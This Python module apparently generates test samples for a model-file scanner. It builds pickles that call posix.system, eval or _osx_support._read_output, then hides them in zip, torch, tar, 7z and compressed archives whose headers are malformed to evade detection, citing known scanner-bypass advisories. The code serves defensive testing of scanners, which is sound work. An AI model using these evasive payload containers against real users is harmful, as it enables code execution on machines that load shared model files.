"""A pickle that runs a command, inside of archives and compressed files, their headers honest and lying."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from typing import TYPE_CHECKING

from corpus.assemble import Call, dump
from corpus.packing import Member, lz4_frame, plain_zip, seven_zip, tarred, torch_zip, zipped, zstd_frame
from corpus.sample import EXPRESSION, SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator

EVIL = dump(Call("posix", "system", (SHELL,)), 2)
QUIET = dump(Call("_osx_support", "_read_output", (SHELL,)))
EVALS = dump(Call("builtins", "eval", (EXPRESSION,)), 3)
GOOD = dump({"weight": [1, 2, 3]}, 2)
PAYLOADS = {"posix": EVIL, "eval": EVALS, "osx": QUIET}


def samples() -> Iterator[Sample]:
    """Yield all containers."""
    yield from _zips()
    yield from _lying_zips()
    yield from _torch()
    yield from _tars()
    yield from _compressed()
    yield from _nested()


def _zips() -> Iterator[Sample]:
    for name, evil in PAYLOADS.items():
        for filename in ("model.zip", "model.pt", "weights.npz", "archive.bin"):
            data = plain_zip({"readme.txt": b"weights", "data.pkl": evil})
            yield file("zip", f"{filename}-{name}", filename, data, loader="zip:data.pkl")
    for member in (
        "model.pickle",
        "weights",
        "config.json",
        "picture.png",
        "a/b/c/d.bin",
        "data.pkl ",
        "DATA.PKL",
        ".hidden",
        "x.dat",
        "model.joblib",
    ):
        yield file(
            "zip",
            f"member-{member.strip('/ .').replace('/', '-')}-{len(member)}",
            "model.zip",
            plain_zip({member: EVIL}),
            loader=f"zip:{member}",
        )
    yield file("zip", "deflated", "model.zip", plain_zip({"data.pkl": EVIL}, 8), loader="zip:data.pkl")
    yield file("zip", "bzip2", "model.zip", plain_zip({"data.pkl": EVIL}, 12), loader="zip:data.pkl")
    yield file("zip", "lzma", "model.zip", plain_zip({"data.pkl": EVIL}, 14), loader="zip:data.pkl")
    many = {f"{place}.txt": b"x" for place in range(3000)}
    yield file("zip", "last-of-many", "model.zip", plain_zip({**many, "data.pkl": EVIL}), loader="zip:data.pkl")
    big = plain_zip({"weights.bin": bytes(3 << 20), "data.pkl": EVIL})
    yield file("zip", "behind-megabytes", "model.zip", big, loader="zip:data.pkl")


def _lying_zips() -> Iterator[Sample]:
    crc = {
        "reference": "CVE-2025-10156",
        "loader": "",
        "static": "the reader of zips must ignore the checksum, as torch's does",
    }
    for place, evil in enumerate((EVIL, QUIET)):
        good, bad = Member("archive/data.pkl", GOOD), Member("archive/data.pkl", evil)
        rows: dict[str, tuple[bytes, str, str]] = {
            "bad-crc": (zipped(Member("archive/data.pkl", evil, crc=1), Member("archive/version", b"3\n")), "CVE-2025-10156", ""),
            "bad-crc-of-another": (zipped(Member("archive/a", b"x", crc=1), bad), "modelscan #354", "zip:archive/data.pkl"),
            "encrypted-flag": (zipped(Member("archive/data.pkl", evil, flags=1)), "GHSA-w8jq-xcqf-f792", ""),
            "encrypted-flag-of-another": (zipped(Member("archive/a", b"x", flags=1), bad), "GHSA-w8jq-xcqf-f792", "zip:archive/data.pkl"),
            "strong-encryption-flag": (zipped(Member("archive/data.pkl", evil, flags=0x40)), "GHSA-w8jq-xcqf-f792", ""),
            "patch-flag": (zipped(Member("archive/data.pkl", evil, flags=0x20)), "GHSA-w8jq-xcqf-f792", ""),
            "unknown-method-of-another": (zipped(Member("archive/a", b"x", method=99), bad), "modelscan #354", "zip:archive/data.pkl"),
            "unknown-method": (zipped(Member("archive/data.pkl", evil, method=97)), "", ""),
            "local-name-differs": (zipped(Member("archive/notes.txt", evil, local_name="archive/data.pkl")), "GHSA-7q5r-7gvp-wc82", ""),
            "central-name-differs": (zipped(Member("archive/data.pkl", evil, local_name="archive/notes.txt")), "GHSA-7q5r-7gvp-wc82", ""),
            "local-size-differs": (zipped(Member("archive/data.pkl", evil, local_size=4)), "GHSA-7q5r-7gvp-wc82", "zip:archive/data.pkl"),
            "local-method-differs": (zipped(Member("archive/data.pkl", evil, local_method=8)), "GHSA-7q5r-7gvp-wc82", ""),
            "central-size-too-small": (zipped(Member("archive/data.pkl", evil, central_size=3)), "GHSA-7q5r-7gvp-wc82", ""),
            "not-in-the-directory": (zipped(good, Member("archive/other.pkl", evil, listed=False)), "directory", ""),
            "only-in-local-headers": (zipped(Member("archive/data.pkl", evil, listed=False), Member("archive/version", b"3\n")), "directory", ""),
            "duplicate-bad-last": (zipped(good, bad), "duplicate", "zip:archive/data.pkl"),
            "duplicate-bad-first": (zipped(bad, good), "duplicate", ""),
            "duplicate-in-case": (zipped(good, Member("archive/DATA.pkl", evil)), "duplicate", "zip:archive/DATA.pkl"),
            "prefix-junk": (zipped(bad, prefix=b"JUNK" * 64), "prefix", ""),
            "prefix-is-a-script": (b"#!/bin/sh\nexit\n" + zipped(bad), "prefix", "zip:archive/data.pkl"),
            "prefix-is-another-zip": (zipped(good) + zipped(bad), "prefix", ""),
            "no-end-of-directory": (zipped(bad, end=False), "EOCD", ""),
            "count-too-small": (zipped(good, Member("archive/z.pkl", evil), count=1), "EOCD", ""),
            "count-zero": (zipped(bad, count=0), "EOCD", ""),
            "comment-holds-an-end": (zipped(bad, comment=b"PK\x05\x06" + bytes(18)), "EOCD", ""),
            "comment-holds-a-zip": (zipped(good, comment=zipped(bad)), "EOCD", ""),
            "comment-is-a-pickle": (zipped(good, comment=evil), "EOCD", ""),
            "comment-longer-than-said": (zipped(bad) + b"tail", "EOCD", "zip:archive/data.pkl"),
            "in-an-extra-field": (zipped(Member("archive/data.pkl", GOOD, extra=struct.pack("<HH", 0x7070, len(evil)) + evil)), "extra", ""),
            "after-the-end": (zipped(good) + evil, "trailing", ""),
            "between-members": (zipped(Member("archive/a", b"x"), Member("hidden", evil, listed=False), good), "gap", ""),
            "zip64": (_zip64(evil), "zip64", "zip:archive/data.pkl"),
            "zip64-sizes-lie": (zipped(Member("archive/data.pkl", evil, extra=struct.pack("<HHQQ", 1, 16, 1 << 40, 1 << 40))), "zip64", ""),
            "directory-encrypted-mark": (zipped(Member("archive/data.pkl", evil, flags=0x2000)), "flags", ""),
            "data-descriptor": (_descriptor(evil), "descriptor", ""),
            "deflate-with-a-tail": (zipped(Member("archive/data.pkl", evil, method=8), Member("archive/x", b"")), "", "zip:archive/data.pkl"),
            "unlisted-pickle-name": (zipped(good, Member("archive/extra/weights.dat", evil)), "CVE-2025-10155", "zip:archive/extra/weights.dat"),
            "backslash-name": (zipped(Member("archive\\data.pkl", evil), good), "names", ""),
            "nul-in-a-name": (zipped(Member("archive/data.txt\0.pkl", evil), good), "names", ""),
            "directory-with-content": (zipped(good, Member("archive/folder/", evil)), "names", ""),
            "name-by-unicode-extra": (zipped(Member("archive/notes.txt", evil, extra=_unicode_name("archive/notes.txt", "archive/data.pkl"))), "names", "zip:archive/notes.txt"),
            "disk-number": (zipped(bad)[:-18] + b"\x01\x00" + zipped(bad)[-16:], "EOCD", ""),
        }  # fmt: skip
        for name, (data, reference, loader) in rows.items():
            static = "" if loader else "depends on the zip reader of the framework"
            yield file("zip-lies", f"{name}-{place}", "model.pt", data, reference, loader=loader, static=static)
    yield file(
        "zip-lies",
        "every-member-broken",
        "model.pt",
        zipped(*(Member(f"a/{place}", EVIL, crc=7) for place in range(3))),
        **crc,
    )


def _unicode_name(listed: str, other: str) -> bytes:
    """Return the extra field by which some readers take another name for a member (APPNOTE 4.6.9)."""
    body = struct.pack("<BI", 1, zlib.crc32(listed.encode())) + other.encode()
    return struct.pack("<HH", 0x7075, len(body)) + body


def _zip64(evil: bytes) -> bytes:
    data = plain_zip({"archive/data.pkl": evil})
    at = data.rindex(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", data, at + 12)
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, size, offset)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return data[:at] + record + locator + end


def _descriptor(evil: bytes) -> bytes:
    """Return a member whose sizes stand behind its data only (flag bit 3)."""
    packed = Member("", evil, method=8).packed
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 8, 8, 0, 23585, 0, 0, 0, 8, 0) + b"data.pkl" + packed
    local += struct.pack("<4s3I", b"PK\x07\x08", zlib.crc32(evil), len(packed), len(evil))
    directory = struct.pack(
        "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 8, 8, 0, 23585, zlib.crc32(evil), len(packed), len(evil), 8, 0, 0, 0, 0, 0, 0
    ) + b"data.pkl"  # fmt: skip
    return local + directory + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(local), 0)


def _torch() -> Iterator[Sample]:
    for name, evil in PAYLOADS.items():
        yield from _torch_zips(name, evil)
        yield from _torch_legacy(name, evil)


def _torch_zips(name: str, evil: bytes) -> Iterator[Sample]:
    yield file("torch-zip", f"data-{name}", "pytorch_model.bin", torch_zip(evil), loader="torch")
    yield file("torch-zip", f"ckpt-{name}", "epoch=3.ckpt", torch_zip(evil, root="epoch=3"), loader="torch")
    yield file(
        "torch-zip",
        f"other-member-{name}",
        "model.pth",
        torch_zip(GOOD, more={"extra.pkl": evil}),
        loader="zip:archive/extra.pkl",
    )
    yield file(
        "torch-zip",
        f"storage-is-a-pickle-{name}",
        "model.pt",
        torch_zip(GOOD, more={"data/1": evil}),
        loader="zip:archive/data/1",
    )
    yield file(
        "torch-zip",
        f"constants-{name}",
        "script.pt",
        torch_zip(GOOD, more={"constants.pkl": evil}),
        loader="zip:archive/constants.pkl",
    )
    yield file(
        "torch-zip",
        f"version-last-{name}",
        "model.pt",
        plain_zip({"x/data.pkl": evil, "x/version": b"3\n"}),
        loader="torch",
    )
    yield file(
        "torch-zip",
        f"two-roots-{name}",
        "model.pt",
        plain_zip({"a/data.pkl": GOOD, "a/version": b"3\n", "b/data.pkl": evil}),
        loader="zip:b/data.pkl",
    )


def _torch_legacy(name: str, evil: bytes) -> Iterator[Sample]:
    legacy = _legacy(evil)
    yield file("torch-legacy", f"magic-{name}", "legacy.pt", legacy, loader="torch")
    yield file(
        "torch-legacy",
        f"false-magic-{name}",
        "legacy.bin",
        dump(0x1234) + dump(1001) + evil,
        "pytorch_magic_bypass",
        loader="streams",
    )
    yield file(
        "torch-legacy",
        f"magic-made-by-a-call-{name}",
        "model.pt",
        _called_magic(evil),
        "pytorch_magic_bypass",
        loader="streams",
    )
    yield file(
        "torch-legacy",
        f"tar-{name}",
        "old.pt",
        tarred({"pickle": evil, "storages": GOOD, "tensors": GOOD, "sys_info": GOOD}),
        loader="tar:pickle",
    )
    yield file(
        "torch-legacy",
        f"in-system-info-{name}",
        "sys.pt",
        dump(0x1950A86A20F9469CFC6C) + dump(1001) + evil,
        loader="streams",
    )
    yield file(
        "torch-legacy",
        f"in-storage-keys-{name}",
        "keys.pt",
        b"".join((dump(0x1950A86A20F9469CFC6C, 2), dump(1001, 2), dump({}, 2), dump({}, 2), evil)),
        loader="streams",
    )


def _legacy(evil: bytes) -> bytes:
    info = dump({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    return dump(0x1950A86A20F9469CFC6C, 2) + dump(1001, 2) + info + evil + dump([], 2)


def _called_magic(evil: bytes) -> bytes:
    return (
        dump(Call("builtins", "int", (str(0x1950A86A20F9469CFC6C),)), 2)
        + dump(1001, 2)
        + dump({}, 2)
        + evil
        + dump([], 2)
    )


def _tars() -> Iterator[Sample]:
    for name, evil in PAYLOADS.items():
        for suffix, mode in (("tar", "w"), ("tar.gz", "w:gz"), ("tar.bz2", "w:bz2"), ("tar.xz", "w:xz")):
            data = _still(tarred({"a.txt": b"x", "data.pkl": evil}, mode), suffix)
            yield file("tar", f"{suffix}-{name}", f"model.{suffix}", data, loader="tar:data.pkl")
    yield file("tar", "named-pt", "model.pt", tarred({"weights": EVIL}), loader="tar:weights")
    yield file("tar", "member-without-a-suffix", "model.tar", tarred({"weights/0": EVIL}), loader="tar:weights/0")
    yield file(
        "tar", "long-name", "model.tar", tarred({"d/" * 90 + "data.pkl": EVIL}), loader="tar:" + "d/" * 90 + "data.pkl"
    )
    yield file(
        "tar",
        "duplicate",
        "model.tar",
        tarred({"data.pkl": GOOD}, "w")[:-8192] + tarred({"data.pkl": EVIL}),
        loader="tar:data.pkl",
    )
    bad = bytearray(tarred({"a": b"x", "data.pkl": EVIL}))
    bad[148:156] = b"0000000\0"
    static = {"static": "tarfile refuses it, other readers do not"}
    yield file("tar", "bad-checksum-of-the-first", "model.tar", bytes(bad), **static)
    yield file(
        "tar",
        "after-the-end",
        "model.tar",
        tarred({"a": b"x"}) + tarred({"data.pkl": EVIL}),
        static="needs --ignore-zeros",
    )
    yield file("tar", "cut", "model.tar", tarred({"a": b"x", "data.pkl": EVIL})[: 512 * 3 + len(EVIL)], **static)


def _pax() -> bytes:
    """Return a tar whose member has another name in its extended header than in its own."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("readme.txt")
        info.size, info.pax_headers = len(EVIL), {"path": "data.pkl"}
        archive.addfile(info, io.BytesIO(EVIL))
    return out.getvalue()


def _still(data: bytes, suffix: str) -> bytes:
    """Return a tar.gz with its time of making taken out, so that it is the same in every run."""
    return data[:4] + bytes(4) + data[8:] if suffix == "tar.gz" else data


_CODECS = {
    "gz": ("gzip", lambda data: gzip.compress(data, mtime=0)),
    "bz2": ("bz2", bz2.compress),
    "xz": ("lzma", lzma.compress),
    "lzma": ("lzma", lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE)),
    "z": ("zlib", zlib.compress),
    "lz4": ("lz4", lz4_frame),
    "zst": ("zstd", zstd_frame),
}


def _compressed() -> Iterator[Sample]:
    for name, evil in PAYLOADS.items():
        for suffix, (codec, pack) in _CODECS.items():
            yield file("compressed", f"{suffix}-{name}", f"model.pkl.{suffix}", pack(evil), loader=f"unpacked:{codec}")
    for suffix, (codec, pack) in _CODECS.items():
        yield file("compressed", f"{suffix}-named-pkl", "model.pkl", pack(EVIL), loader=f"unpacked:{codec}")
        yield file(
            "compressed",
            f"{suffix}-big",
            f"model.{suffix}",
            pack(dump(bytes(2 << 20))[:-1] + b"0" + EVIL[2:]),
            loader=f"unpacked:{codec}",
        )
    static = {"static": "the loader is the user's"}
    yield file(
        "compressed",
        "two-gzip-members",
        "model.pkl.gz",
        gzip.compress(GOOD, mtime=0) + gzip.compress(EVIL, mtime=0),
        **static,
    )
    yield file("compressed", "gzip-cut", "model.pkl.gz", gzip.compress(EVIL + bytes(5000), mtime=0)[:-9], **static)
    yield file("compressed", "gzip-bad-crc", "model.pkl.gz", gzip.compress(EVIL, mtime=0)[:-8] + bytes(8), **static)
    yield file("compressed", "gzip-with-a-name", "model.bin", _named_gzip(), loader="unpacked:gzip")
    yield file("compressed", "gzip-then-raw-pickle", "model.pkl.gz", gzip.compress(GOOD, mtime=0) + EVIL, **static)
    yield file("compressed", "gz-of-xz", "model.pkl.xz.gz", gzip.compress(lzma.compress(EVIL), mtime=0), **static)
    yield file("compressed", "zlib-without-check", "model.z", zlib.compress(EVIL)[:-4], **static)
    yield file("compressed", "raw-deflate", "model.deflate", Member("", EVIL * 2, method=8).packed, **static)
    yield file("compressed", "zstd-without-a-size", "model.zst", zstd_frame(EVIL, sized=False), loader="unpacked:zstd")
    yield file(
        "compressed",
        "zstd-skippable-frame-first",
        "model.zst",
        b"\x50\x2a\x4d\x18\x04\0\0\0abcd" + zstd_frame(EVIL),
        loader="unpacked:zstd",
    )
    yield file(
        "compressed",
        "lz4-skippable-frame-first",
        "model.lz4",
        b"\x50\x2a\x4d\x18\x04\0\0\0abcd" + lz4_frame(EVIL),
        loader="unpacked:lz4",
    )


def _named_gzip() -> bytes:
    plain = gzip.compress(EVIL, mtime=0)
    return plain[:3] + b"\x08" + plain[4:10] + b"model.txt\0" + plain[10:]


def _nested() -> Iterator[Sample]:
    static = {"static": "the loader is the user's"}
    inner = plain_zip({"data.pkl": EVIL})
    rows = {
        "zip-in-zip": plain_zip({"inner.zip": inner}),
        "three-zips": plain_zip({"b.zip": plain_zip({"a.zip": inner})}),
        "six-zips": plain_zip({"e.zip": plain_zip({"d.zip": plain_zip({"c.zip": plain_zip({"b.zip": plain_zip({"a.zip": inner})})})})}),
        "zip-in-tar": tarred({"inner.zip": inner}),
        "tar-in-zip": plain_zip({"inner.tar": tarred({"data.pkl": EVIL})}),
        "gzip-in-zip": plain_zip({"inner.gz": gzip.compress(EVIL, mtime=0)}),
        "zip-in-gzip": gzip.compress(inner, mtime=0),
        "torch-in-zip": plain_zip({"model.pt": torch_zip(EVIL)}),
        "torch-in-tar": tarred({"model.pt": torch_zip(QUIET)}),
        "joblib-in-tar": tarred({"model.joblib": zlib.compress(QUIET)}),
        "xz-in-bz2-in-zip": plain_zip({"m": bz2.compress(lzma.compress(EVIL))}),
        "7z-in-zip": plain_zip({"inner.7z": seven_zip("data.pkl", EVIL)}),
        "zip-as-npz-member": plain_zip({"arr_0.npy": inner}),
        "pickle-in-a-pickled-text": plain_zip({"config.json": b'{"a": 1}', "weights.txt": EVIL}),
    }  # fmt: skip
    for name, data in rows.items():
        yield file("nested-archive", name, "model.bin", data, **static)
    for name, evil in PAYLOADS.items():
        yield file("7z", f"stored-{name}", "model.7z", seven_zip("data.pkl", evil), static="opened by 7-Zip")
        yield file("7z", f"named-pt-{name}", "model.pt", seven_zip("weights", evil), static="opened by 7-Zip")
    yield file(
        "7z", "behind-a-stub", "model.exe", b"MZ" + bytes(510) + seven_zip("data.pkl", EVIL), static="opened by 7-Zip"
    )
    yield file("7z", "encoded-header", "model.7z", _encoded_header(), static="opened by 7-Zip")


def _encoded_header() -> bytes:
    plain = seven_zip("data.pkl", EVIL)
    at, size = struct.unpack_from("<QQ", plain, 12)
    header = plain[32 + at : 32 + at + size]
    packed = lzma.compress(
        header,
        format=lzma.FORMAT_RAW,
        filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096, "lc": 3, "lp": 0, "pb": 2}],
    )
    coder = b"\x23\x03\x01\x01\x05\x5d" + struct.pack("<I", 4096)

    def number(value: int) -> bytes:
        return bytes([value]) if value < 128 else bytes([0x80 | value >> 8, value & 255])

    streams = b"\x17\x06" + number(len(EVIL)) + number(1) + b"\x09" + number(len(packed)) + b"\x00"
    streams += (
        b"\x07\x0b\x01\x00\x01"
        + coder
        + b"\x0c"
        + number(len(header))
        + b"\x0a\x01"
        + struct.pack("<I", zlib.crc32(header))
        + b"\x00\x00"
    )
    start = struct.pack("<QQI", len(EVIL) + len(packed), len(streams), zlib.crc32(streams))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + EVIL + packed + streams
